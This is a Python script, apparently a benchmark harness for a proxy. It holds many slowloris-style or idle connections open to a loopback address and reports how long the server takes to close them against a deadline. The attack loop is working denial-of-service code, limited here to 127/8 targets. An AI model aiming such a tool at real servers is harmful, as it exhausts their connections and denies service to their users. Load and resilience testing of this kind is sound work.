#!/usr/bin/env python3
"""slowloris_attack.py — hold many abusive connections open to a proxy.

Used by slowloris.sh. Only the standard library; one process, one thread,
non-blocking sockets.

    slowloris_attack.py HOST PORT COUNT MODE RESULT_JSON
        --sources 127.0.0.10,127.0.0.11,... [--duration 40]
        [--deadline 10] [--ready-file F] [--open-rate 5000] [--reopen-rate 200]

MODE is `slowloris` (each connection sends the start of a request head,
then one more header byte every second, never finishing it) or `idle`
(connects and sends nothing). COUNT connections are kept open for
DURATION seconds: they are opened at up to OPEN_RATE a second, and one the
server closes is opened again (after a short, random pause, at most
REOPEN_RATE a second), so the pressure lasts without turning into a
connection flood of its own. Source addresses are taken in turn from SOURCES (all
127/8, so ephemeral ports suffice).

Every connection's life (from the end of its TCP handshake to the
server's close; the time in the server's accept queue is part of it) is
recorded. At
the end the result file gets: connections opened, closed by the server,
refused at once (closed within 100 ms without answering), lifetimes
(p50/p99/max, seconds) of those the server closed, how many of those
outlived DEADLINE + 1 s, and how many still open at the end are older
than DEADLINE + 1 s ("outlived_open"). All connections are then reset
(SO_LINGER 0), leaving no TIME_WAIT behind.

Traffic goes only to HOST (the script refuses any but 127/8); every loop
is bounded by DURATION.
"""

import argparse
import errno
import json
import random
import selectors
import socket
import struct
import sys
import time

HEAD_START = b"GET / HTTP/1.1\r\nHost: bench.local\r\nX-Slow: "
TOLERANCE = 1.0


def parse_args(argv=None):
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("count", type=int)
    p.add_argument("mode", choices=["slowloris", "idle"])
    p.add_argument("result")
    p.add_argument("--sources", required=True)
    p.add_argument("--duration", type=float, default=40.0)
    p.add_argument("--deadline", type=float, default=10.0)
    p.add_argument("--ready-file")
    p.add_argument("--open-rate", type=float, default=5000.0)
    p.add_argument("--reopen-rate", type=float, default=200.0)
    a = p.parse_args(argv)
    if not a.host.startswith("127."):
        p.error("only loopback targets (127/8)")
    if any(not s.startswith("127.") for s in a.sources.split(",")):
        p.error("only loopback sources (127/8)")
    return a


def percentile(values, q):
    if not values:
        return None
    v = sorted(values)
    return v[min(len(v) - 1, int(q * len(v)))]


def summarize(lifetimes, refused, opened, open_ages, deadline):
    """The result record (a pure function, tested in test_slowloris_report)."""
    limit = deadline + TOLERANCE
    return {
        "opened": opened,
        "closed_by_server": len(lifetimes) + refused,
        "refused_at_once": refused,
        "lifetime_p50_s": percentile(lifetimes, 0.50),
        "lifetime_p99_s": percentile(lifetimes, 0.99),
        "lifetime_max_s": max(lifetimes) if lifetimes else None,
        "outlived_closed": sum(1 for t in lifetimes if t > limit),
        "still_open": len(open_ages),
        "outlived_open": sum(1 for t in open_ages if t > limit),
        "deadline_s": deadline,
    }


class Attack:
    def __init__(self, a):
        self.a = a
        self.sel = selectors.DefaultSelector()
        self.sources = a.sources.split(",")
        self.next_source = 0
        self.conns = {}  # fd -> [sock, opened_at, connected, answered]
        self.lifetimes = []
        self.refused = 0
        self.opened = 0
        self.pending_opens = []  # times at which to open one more
        self.budget = 0.0
        self.last_budget = time.monotonic()

    def open_one(self, now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        src = self.sources[self.next_source % len(self.sources)]
        self.next_source += 1
        try:
            s.bind((src, 0))
            rc = s.connect_ex((self.a.host, self.a.port))
        except OSError:
            s.close()
            return False
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            return False
        self.conns[s.fileno()] = [s, now, False, False]
        self.sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
        self.opened += 1
        return True

    def closed(self, fd, now):
        s, opened_at, _, answered = self.conns.pop(fd)
        self.sel.unregister(s)
        s.close()
        life = now - opened_at
        if life < 0.1 and not answered:
            self.refused += 1
        else:
            self.lifetimes.append(life)
        # Open another in its place, after a pause, to keep the pressure.
        self.pending_opens.append(now + random.uniform(0.05, 0.5))

    def on_event(self, key, mask, now):
        fd = key.fd
        c = self.conns.get(fd)
        if c is None:
            return
        s = c[0]
        if not c[2] and mask & selectors.EVENT_WRITE:
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                self.closed(fd, now)
                return
            c[2] = True
            # A life counts from the handshake's end: a SYN the server's
            # full backlog dropped (retried after 1 s, 3 s) is not its
            # time to answer.
            c[1] = now
            self.sel.modify(s, selectors.EVENT_READ)
            if self.a.mode == "slowloris":
                self.send(fd, HEAD_START, now)
            return
        if mask & selectors.EVENT_READ:
            try:
                data = s.recv(4096)
            except BlockingIOError:
                return
            except OSError:
                data = b""
            if data:
                c[3] = True  # an answer (a 408 or 503): the close follows
            else:
                self.closed(fd, now)

    def send(self, fd, data, now):
        c = self.conns.get(fd)
        if c is None:
            return
        try:
            c[0].send(data)
        except BlockingIOError:
            pass
        except OSError:
            self.closed(fd, now)

    def open_due(self, now):
        rate = self.a.open_rate if self.opened < self.a.count else self.a.reopen_rate
        self.budget = min(rate, self.budget + (now - self.last_budget) * rate)
        self.last_budget = now
        due = [t for t in self.pending_opens if t <= now]
        if not due:
            return
        self.pending_opens = [t for t in self.pending_opens if t > now]
        for _ in due:
            if self.budget < 1 or len(self.conns) >= self.a.count:
                self.pending_opens.append(now + 0.05)
                continue
            self.budget -= 1
            if not self.open_one(now):
                self.pending_opens.append(now + 0.2)

    def run(self):
        start = time.monotonic()
        end = start + self.a.duration
        self.pending_opens = [start] * self.a.count
        ready_written = False
        next_trickle = start + 1.0
        while True:
            now = time.monotonic()
            if now >= end:
                break
            self.open_due(now)
            if not ready_written and self.opened >= self.a.count and self.a.ready_file:
                with open(self.a.ready_file, "w") as f:
                    f.write("open %d\n" % len(self.conns))
                ready_written = True
            if self.a.mode == "slowloris" and now >= next_trickle:
                for fd, c in list(self.conns.items()):
                    if c[2]:
                        self.send(fd, b"b", now)
                next_trickle = now + 1.0
            for key, mask in self.sel.select(timeout=0.05):
                self.on_event(key, mask, time.monotonic())
        now = time.monotonic()
        ages = [now - c[1] for c in self.conns.values() if c[2]]
        result = summarize(self.lifetimes, self.refused, self.opened, ages, self.a.deadline)
        result["mode"] = self.a.mode
        result["target_count"] = self.a.count
        for c in list(self.conns.values()):
            c[0].close()
        return result


def main():
    a = parse_args()
    result = Attack(a).run()
    with open(a.result, "w") as f:
        json.dump(result, f, indent=1)
    print(json.dumps(result), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
